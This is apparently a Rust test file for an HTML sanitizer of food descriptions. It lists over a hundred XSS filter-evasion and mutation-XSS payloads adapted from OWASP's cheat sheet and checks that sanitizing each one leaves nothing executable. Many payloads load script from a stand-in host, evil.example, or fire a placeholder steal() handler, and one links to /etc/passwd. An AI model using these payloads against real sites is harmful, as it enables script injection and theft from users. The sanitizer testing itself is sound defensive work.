//! Script in a description: the ways past a filter that OWASP's XSS Filter Evasion Cheat Sheet
//! collects (<https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html>), each
//! by an example of our own, and those that mutate while they are parsed, which it does not have.

use std::collections::BTreeSet;

use domain::food::{Description, InvalidDescription};
use domain::testing::html::dangers;

const EVASIONS: &[(&str, &str)] = &[
    ("plain", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
    (
        "polyglot",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+steal()//'>",
    ),
    ("link without address", "<a onmouseover=\"steal()\">x</a>"),
    ("the same without quotes", "<a onmouseover=steal()>x</a>"),
    (
        "escaped angle brackets",
        "\\<a onmouseover=\"steal()\"\\>x\\</a\\>",
    ),
    (
        "picture with too many quotes",
        "<IMG \"\"\"><SCRIPT>steal()</SCRIPT>\"\\>",
    ),
    (
        "no quotes",
        "<a href=\"javascript:steal(String.fromCharCode(88))\">x</a>",
    ),
    ("picture of nothing", "<IMG SRC=# onmouseover=\"steal()\">"),
    (
        "picture of an empty address",
        "<IMG SRC= onmouseover=\"steal()\">",
    ),
    ("picture without address", "<IMG onmouseover=\"steal()\">"),
    (
        "picture that fails",
        "<IMG SRC=/ onerror=\"steal()\"></img>",
    ),
    (
        "handler in character references",
        "<img src=x onerror=\"&#0000115&#0000116&#0000101&#0000097&#0000108\">",
    ),
    (
        "decimal references",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;steal()\">x</a>",
    ),
    (
        "decimal references, padded, without end",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058steal()\">x</a>",
    ),
    (
        "hexadecimal references",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Asteal()\">x</a>",
    ),
    (
        "named references",
        "<a href=\"javascript&colon;steal&lpar;&rpar;\">x</a>",
    ),
    (
        "references in the scheme",
        "<a href=\"java&Tab;script&NewLine;:steal()\">x</a>",
    ),
    ("a tab", "<a href=\"jav\tascript:steal()\">x</a>"),
    (
        "an encoded tab",
        "<a href=\"jav&#x09;ascript:steal()\">x</a>",
    ),
    (
        "an encoded line break",
        "<a href=\"jav&#x0A;ascript:steal()\">x</a>",
    ),
    (
        "an encoded carriage return",
        "<a href=\"jav&#x0D;ascript:steal()\">x</a>",
    ),
    (
        "a line break in every place",
        "<a href=\"\nj\na\nv\na\ns\nc\nr\ni\np\nt\n:\nsteal()\">x</a>",
    ),
    ("a NUL", "<a href=\"java\0script:steal()\">x</a>"),
    ("a NUL in the tag", "<scr\0ipt>steal()</scr\0ipt>"),
    (
        "control characters before it",
        "<a href=\" &#14;  javascript:steal()\">x</a>",
    ),
    (
        "other spaces before it",
        "<a href=\"&#xa0;\u{2003}javascript:steal()\">x</a>",
    ),
    ("mixed case", "<a href=\"JaVaScRiPt:steal()\">x</a>"),
    (
        "letters that fold",
        "<a href=\"java\u{17f}cript:steal()\"><\u{17f}cript>x</a>",
    ),
    (
        "full-width letters",
        "\u{ff1c}script\u{ff1e}steal()\u{ff1c}/script\u{ff1e}",
    ),
    (
        "a slash in the place of space",
        "<SCRIPT/XSS SRC=\"https://evil.example/x.js\"></SCRIPT>",
    ),
    (
        "nothing between",
        "<SCRIPT/SRC=\"https://evil.example/x.js\"></SCRIPT>",
    ),
    (
        "signs behind a handler's name",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=steal()>",
    ),
    ("brackets too many", "<<SCRIPT>steal();//\\<</SCRIPT>"),
    (
        "script without an end",
        "<SCRIPT SRC=https://evil.example/x.js?< B >",
    ),
    ("address without scheme", "<SCRIPT SRC=//evil.example/.j>"),
    ("half open", "<IMG SRC=\"`<javascript:steal>`()\""),
    ("half open frame", "<iframe src=https://evil.example/x <"),
    ("the end of a string", "\\\";steal();//"),
    ("the end of a script", "</script><script>steal();</script>"),
    ("the end of a title", "</TITLE><SCRIPT>steal();</SCRIPT>"),
    (
        "input",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:steal();\">",
    ),
    (
        "background of the page",
        "<BODY BACKGROUND=\"javascript:steal()\">",
    ),
    ("dynsrc", "<IMG DYNSRC=\"javascript:steal()\">"),
    ("lowsrc", "<IMG LOWSRC=\"javascript:steal()\">"),
    ("srcset", "<IMG SRCSET=\"javascript:steal() 1x\">"),
    (
        "list with a picture",
        "<STYLE>li {list-style-image: url(\"javascript:steal()\");}</STYLE><UL><LI>x</br>",
    ),
    ("another language", "<IMG SRC='vbscript:msgbox(\"x\")'>"),
    ("livescript", "<IMG SRC=\"livescript:steal()\">"),
    ("drawing", "<svg/onload=steal()>"),
    ("drawing with script", "<svg><script>steal()</script></svg>"),
    (
        "drawing with a link",
        "<svg><a xlink:href=\"javascript:steal()\"><text>x</text></a></svg>",
    ),
    (
        "drawing with animation",
        "<svg><animate onbegin=steal() attributeName=x dur=1s>",
    ),
    ("body", "<BODY ONLOAD=steal()>"),
    (
        "a space before the equals sign",
        "<b onclick =steal()>x</b>",
    ),
    ("sound", "<BGSOUND SRC=\"javascript:steal();\">"),
    ("includes", "<BR SIZE=\"&{steal()}\">"),
    (
        "style sheet",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:steal();\">",
    ),
    (
        "style sheet from elsewhere",
        "<LINK REL=\"stylesheet\" HREF=\"https://evil.example/x.css\">",
    ),
    (
        "import",
        "<STYLE>@import'https://evil.example/x.css';</STYLE>",
    ),
    (
        "binding",
        "<STYLE>BODY{-moz-binding:url(\"https://evil.example/x.xml#x\")}</STYLE>",
    ),
    (
        "import with escapes",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:steal()';</STYLE>",
    ),
    (
        "expression in parts",
        "<IMG STYLE=\"xss:expr/*x*/ession(steal())\">",
    ),
    (
        "expression around a tag",
        "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*x*//*/*/pression(steal())'>",
    ),
    (
        "class with a picture",
        "<STYLE>.x{background-image:url(\"javascript:steal()\");}</STYLE><A CLASS=x></A>",
    ),
    (
        "type of style",
        "<STYLE type=\"text/css\">BODY{background:url(\"<javascript:steal>()\")}</STYLE>",
    ),
    (
        "element of no name",
        "<XSS STYLE=\"xss:expression(steal())\">",
    ),
    ("behaviour", "<XSS STYLE=\"behavior: url(x.htc);\">"),
    (
        "seven bits",
        "\u{bc}script\u{be}steal(\u{a2}x\u{a2})\u{bc}/script\u{be}",
    ),
    (
        "seven bits, as UTF-7",
        "+ADw-script+AD4-steal()+ADw-/script+AD4-",
    ),
    (
        "meta",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:steal();\">",
    ),
    (
        "meta with data",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD4=\">",
    ),
    (
        "meta with two addresses",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:steal();\">",
    ),
    (
        "meta with a cookie",
        "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"id=<SCRIPT>steal()</SCRIPT>\">",
    ),
    ("frame", "<IFRAME SRC=\"javascript:steal();\"></IFRAME>"),
    (
        "frame with a handler",
        "<IFRAME SRC=# onmouseover=\"steal()\"></IFRAME>",
    ),
    (
        "frame with a document",
        "<iframe srcdoc=\"&lt;script&gt;steal()&lt;/script&gt;\"></iframe>",
    ),
    (
        "set of frames",
        "<FRAMESET><FRAME SRC=\"javascript:steal();\"></FRAMESET>",
    ),
    ("table", "<TABLE BACKGROUND=\"javascript:steal()\">"),
    ("cell", "<TABLE><TD BACKGROUND=\"javascript:steal()\">"),
    (
        "style of a block",
        "<DIV STYLE=\"background-image: url(javascript:steal())\">",
    ),
    (
        "the same in escapes",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029\">",
    ),
    (
        "the same behind a sign",
        "<DIV STYLE=\"background-image: url(&#1;javascript:steal())\">",
    ),
    (
        "expression of a block",
        "<DIV STYLE=\"width: expression(steal());\">",
    ),
    (
        "conditional comment",
        "<!--[if gte IE 4]><SCRIPT>steal();</SCRIPT><![endif]-->",
    ),
    (
        "comment that ends early",
        "<!--><img src=x onerror=steal()>-->",
    ),
    (
        "comment that ends late",
        "<!--x--!><img src=x onerror=steal()>",
    ),
    ("base", "<BASE HREF=\"javascript:steal();//\">"),
    (
        "object",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/x.html\"></OBJECT>",
    ),
    (
        "embedded drawing",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    ),
    (
        "data island",
        "<XML ID=\"x\"><I><B><IMG SRC=\"javas<!-- -->cript:steal()\"></B></I></XML><SPAN DATASRC=\"#x\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    ),
    (
        "data island from elsewhere",
        "<XML SRC=\"x.xml\" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
    ),
    (
        "time",
        "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"x<SCRIPT DEFER>steal()</SCRIPT>\"></BODY></HTML>",
    ),
    (
        "script called a picture",
        "<SCRIPT SRC=\"https://evil.example/x.jpg\"></SCRIPT>",
    ),
    (
        "includes of a server",
        "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=//evil.example></SCRIPT>'\"-->",
    ),
    ("PHP", "<? echo('<SCR)';echo('IPT>steal()</SCRIPT>'); ?>"),
    (
        "quotes in an attribute",
        "<SCRIPT a=\">\" SRC=\"https://evil.example/x.js\"></SCRIPT>",
    ),
    (
        "quotes without a name",
        "<SCRIPT =\">\" SRC=\"https://evil.example/x.js\"></SCRIPT>",
    ),
    (
        "quotes with nothing",
        "<SCRIPT a=\">\" '' SRC=\"https://evil.example/x.js\"></SCRIPT>",
    ),
    (
        "quotes as a name",
        "<SCRIPT \"a='>'\" SRC=\"https://evil.example/x.js\"></SCRIPT>",
    ),
    (
        "grave accents",
        "<SCRIPT a=`>` SRC=\"https://evil.example/x.js\"></SCRIPT>",
    ),
    (
        "quotes of both kinds",
        "<SCRIPT a=\">'>\" SRC=\"https://evil.example/x.js\"></SCRIPT>",
    ),
    (
        "script in two parts",
        "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"https://evil.example/x.js\"></SCRIPT>",
    ),
    (
        "script inside itself",
        "<scr<script>ipt>steal()</scr</script>ipt>",
    ),
    (
        "base64 in a handler",
        "<img onload=\"eval(atob('c3RlYWwoKQ=='))\">",
    ),
    (
        "link to script",
        "<A HREF=\"javascript:document.location='https://evil.example/'\">x</A>",
    ),
    (
        "link to a document of data",
        "<a href=\"data:text/html,<script>steal()</script>\">x</a>",
    ),
    (
        "link to a blob",
        "<a href=\"blob:https://evil.example/x\">x</a>",
    ),
    ("link to a file", "<a href=\"file:///etc/passwd\">x</a>"),
    (
        "picture of a document",
        "<img src=\"data:image/svg+xml,<svg onload=steal()>\">",
    ),
    (
        "view of the source",
        "<a href=\"view-source:javascript:steal()\">x</a>",
    ),
    (
        "opener",
        "<a href=\"https://evil.example\" target=_blank ping=\"https://evil.example/p\">x</a>",
    ),
    (
        "form",
        "<form action=\"javascript:steal()\"><input type=submit autofocus onfocus=steal()></form>",
    ),
    (
        "button with an address",
        "<button formaction=javascript:steal()>x</button>",
    ),
    ("key", "<p accesskey=x onclick=steal() tabindex=1>x</p>"),
    (
        "what opens itself",
        "<details open ontoggle=steal()><summary>x</summary></details>",
    ),
    ("film", "<video><source onerror=steal()></video>"),
    ("sound with a handler", "<audio src=x onerror=steal()>"),
    ("moving text", "<marquee onstart=steal()>x</marquee>"),
    (
        "names that hide others",
        "<img name=getElementById><a id=cookie name=cookie>x</a>",
    ),
    (
        "style of a page",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
    ),
    (
        "template",
        "{{constructor.constructor('steal()')()}}<template><script>steal()</script></template>",
    ),
    (
        "slot",
        "<div slot=x is=y><slot name=x onslotchange=steal()></div>",
    ),
    // They change while they are parsed a second time (mutation XSS).
    (
        "namespace of formulas",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
    ),
    (
        "form in a form",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    ),
    (
        "drawing in the end of a paragraph",
        "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
    ),
    (
        "text without script",
        "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
    ),
    ("plain text", "<plaintext><script>steal()</script>"),
    (
        "old plain text",
        "<xmp><p title=\"</xmp><img src=x onerror=steal()>\">",
    ),
    (
        "listing",
        "<listing>&lt;img src=x onerror=steal()&gt;</listing>",
    ),
    ("character data", "<![CDATA[><img src=x onerror=steal()>]]>"),
    (
        "character data in a drawing",
        "<svg><![CDATA[><img src=x onerror=steal()>]]></svg>",
    ),
    (
        "choice",
        "<select><style></select><img src=x onerror=steal()></style>",
    ),
    (
        "table in a table",
        "<table><table title=\"</table><img src=x onerror=steal()>\">",
    ),
    (
        "grave accents in an attribute",
        "<img alt=\"`` onerror=steal()\" src=x>",
    ),
    (
        "frames without frames",
        "<noframes><p title=\"</noframes><img src=x onerror=steal()>\">",
    ),
    (
        "embedded text",
        "<noembed><p title=\"</noembed><img src=x onerror=steal()>\">",
    ),
    (
        "title in a drawing",
        "<svg><title><p title=\"</title><img src=x onerror=steal()>\">",
    ),
    (
        "description in a drawing",
        "<svg><desc><img src=x onerror=steal()></desc></svg>",
    ),
    (
        "annotation",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=steal()></annotation-xml></math>",
    ),
];

#[test]
fn what_runs_is_not_saved() {
    for (way, raw) in EVASIONS {
        for raw in [
            (*raw).to_owned(),
            format!("<p>Soup {raw} and rice</p>"),
            format!("<b title=\"{raw}\">x</b>"),
        ] {
            match Description::sanitize(&raw) {
                Ok(safe) => {
                    assert_eq!(dangers(safe.as_str()), BTreeSet::new(), "{way}: {raw}");
                    // Read by a browser, written and read again, it is what it was.
                    let again =
                        Description::sanitize(safe.as_str()).map(|safe| safe.as_str().to_owned());
                    assert_eq!(again.as_deref(), Ok(safe.as_str()), "{way}: {raw}");
                }
                Err(error) => assert_eq!(error, InvalidDescription::Empty, "{way}: {raw}"),
            }
        }
    }
}

#[test]
fn most_of_the_ways_would_work_on_a_page() {
    let harmless: Vec<_> = EVASIONS
        .iter()
        .filter(|(_, raw)| dangers(raw).is_empty())
        .map(|(way, _)| *way)
        .collect();
    // The others are for browsers of another time.
    assert_eq!(
        harmless,
        [
            "picture of an empty address",
            "other spaces before it",
            "full-width letters",
            "the end of a string",
            "includes",
            "seven bits",
            "seven bits, as UTF-7",
            "table in a table",
            "grave accents in an attribute",
        ]
    );
}

#[test]
fn links_elsewhere_stay_links_and_know_nothing_of_the_page() {
    for address in [
        "http://0x42.0x66.0x7.0x93/",
        "http://1113982867/",
        "//evil.example/",
        "https://evil.example./",
        "http://%77%77.example/",
    ] {
        let safe =
            Description::sanitize(&format!("<a href=\"{address}\">x</a>")).expect("a description");
        let expected = format!("<a href=\"{address}\" rel=\"noopener noreferrer\">x</a>");
        assert_eq!(safe.as_str(), expected);
    }
}
